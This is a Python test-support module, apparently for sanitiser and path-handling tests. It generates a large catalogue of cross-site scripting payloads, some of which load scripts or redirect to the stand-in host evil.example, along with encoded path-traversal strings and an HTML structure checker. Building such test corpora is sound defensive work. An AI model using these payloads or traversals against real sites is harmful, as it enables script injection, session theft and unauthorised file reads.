"""Text that would run a script or load something if a page took it for markup, and paths that lead out of a folder."""

import itertools
from html.parser import HTMLParser

CALL = "window.hit=1"
_HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
_ELEMENTS = ("img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "iframe src=x", "math")
_ADDRESSES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    "//evil.example/x",
    "https://evil.example/x",
    "\x01javascript:alert(1)",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x',
    '<link rel=stylesheet href="{}">',
)
_BREAKS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus='",
    f'" autofocus onfocus={CALL} ',
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}<script>",
    "${7*7}<script>x",
    "<%= 7*7 %><script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><style><img src=x onerror={CALL}></style>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<img src=https://evil.example/pixel.png>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=background:url(https://evil.example/x)>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "\u202e<script>window.hit=1</script>",
    "\ufeff<script>window.hit=1</script>",
    "＜script＞window.hit=1＜/script＞",
    "\u2028<script>window.hit=1</script>",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "<!--[if gte IE 4]><script>window.hit=1</script><![endif]-->",
    "`${window.hit=1}`",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
    "<template><script>window.hit=1</script></template>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.hit=1</x:script>",
    "<button popovertarget=x>x</button><div id=x popover ontoggle=window.hit=1>",
    "<portal src=https://evil.example/>",
    "event: change\ndata: 9\n\n",
    "<dialog open><form method=dialog><button autofocus>x",
    "<input type=image src=x onerror=window.hit=1>",
    "<marquee onstart=window.hit=1>",
    "<audio src=x onerror=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>",
    "<keygen autofocus onfocus=window.hit=1>",
    "<source onerror=window.hit=1>",
    "<p id=content>clobbered</p>",
    "<form id=keys><input name=showModal></form>",
    "<a id=curves></a>",
)  # fmt: skip

PAYLOADS = [
    *(f"<{element} {handler}={CALL}>" for element, handler in itertools.product(_ELEMENTS, _HANDLERS)),
    *(carrier.format(address) for carrier, address in itertools.product(_CARRIERS, _ADDRESSES)),
    *_BREAKS,
]
# What can be the name of a folder.
NAMES = [text for text in PAYLOADS if "/" not in text and text.isprintable() and not text.startswith(".")]


def traversals(target):
    """Ways to say `target`, a path such as "../secret", in the path of an address, some of them encoded twice."""
    ups = ("..", "%2e%2e", "%2E.", "..;", "%252e%252e", "....", "%c0%ae%c0%ae", "%u002e%u002e", "．．")
    slashes = ("/", "%2f", "%5c", "\\", "//", "%252f", "/./", "%c0%af", "/%00/", "%2f%2f")
    *folders, name = target.split("/")
    for up, slash in itertools.product(ups, slashes):
        yield slash.join([up if folder == ".." else folder for folder in folders] + [name])
        yield slash + slash.join([up if folder == ".." else folder for folder in folders] + [name]) + "%00"


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes: what a payload must not change."""

    def __init__(self):
        super().__init__()
        self.parts = []
        self.addresses = []

    def handle_starttag(self, tag, attrs):
        self.parts.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action", "data")]

    def handle_endtag(self, tag):
        self.parts.append(f"/{tag}")

    def handle_comment(self, data):
        self.parts.append("comment")


def read_skeleton(page):
    parser = Skeleton()
    parser.feed(page)
    parser.close()
    return parser
